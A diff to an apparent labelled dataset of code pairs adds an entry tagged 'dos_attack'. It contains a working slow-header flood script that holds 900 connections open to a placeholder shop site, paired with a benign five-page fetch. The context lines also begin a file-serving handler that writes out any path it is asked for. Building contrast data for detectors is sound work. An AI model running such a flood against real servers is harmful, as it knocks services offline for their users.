@@ -425,6 +425,18 @@ PAIRS = [
      "while True:\n    s = socket.create_connection(('shop.example.com', 80))\n"
      "    s.send_line('GET /healthz HTTP/1.1\\r\\nHost: shop.example.com\\r\\n')\n"
      "    print(s.recv(64))\n    s.close()\n    time.sleep(60)"),
+    ("slow flood: anyio tasks started in a task group, each connecting and trickling header lines with pauses; "
+     "tasks that each fetch one page and close", "dos_attack",
+     "import anyio, random\nasync def hold(i):\n    s = await anyio.connect_tcp('shop.example.com', 80)\n"
+     "    await s.send(b'GET / HTTP/1.1\\r\\nHost: shop.example.com\\r\\n')\n    while True:\n"
+     "        await anyio.sleep(10)\n        await s.send(f'X-{random.randrange(9999)}: 1\\r\\n'.encode())\n"
+     "async def main():\n    async with anyio.create_task_group() as tg:\n        for i in range(900):\n"
+     "            tg.start_soon(hold, i)\nanyio.run(main)",
+     "import anyio\nasync def fetch(i):\n    s = await anyio.connect_tcp('shop.example.com', 80)\n"
+     "    await s.send(f'GET /p/{i} HTTP/1.1\\r\\nHost: shop.example.com\\r\\n\\r\\n'.encode())\n"
+     "    print(await s.receive())\n    await s.aclose()\n"
+     "async def main():\n    async with anyio.create_task_group() as tg:\n        for i in range(5):\n"
+     "            tg.start_soon(fetch, i)\nanyio.run(main)"),
     ("server: an http.server handler that writes out the file its request path names; one that always sends its "
      "own page", "web_file_hosting",
      "import os\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nROOT = '/content/drive/MyDrive'\n"
